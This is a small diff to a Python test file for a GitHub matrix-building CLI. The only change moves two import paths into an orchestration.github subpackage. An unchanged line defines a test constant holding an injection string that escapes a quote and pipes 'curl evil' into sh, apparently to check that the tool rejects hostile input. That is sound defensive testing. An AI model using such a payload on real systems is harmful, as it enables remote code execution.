@@ -10,8 +10,8 @@ import pytest
 from cli_helpers import assert_user_error, run_cli
 
 from agents.registry import default_registry
-from orchestration.github_cli import set_output
-from orchestration.matrix import MAX_LEGS, MatrixError, build_matrix, matrix_json
+from orchestration.github.cli import set_output
+from orchestration.github.matrix import MAX_LEGS, MatrixError, build_matrix, matrix_json
 
 HOSTILE = '"; curl evil | sh; #'
 
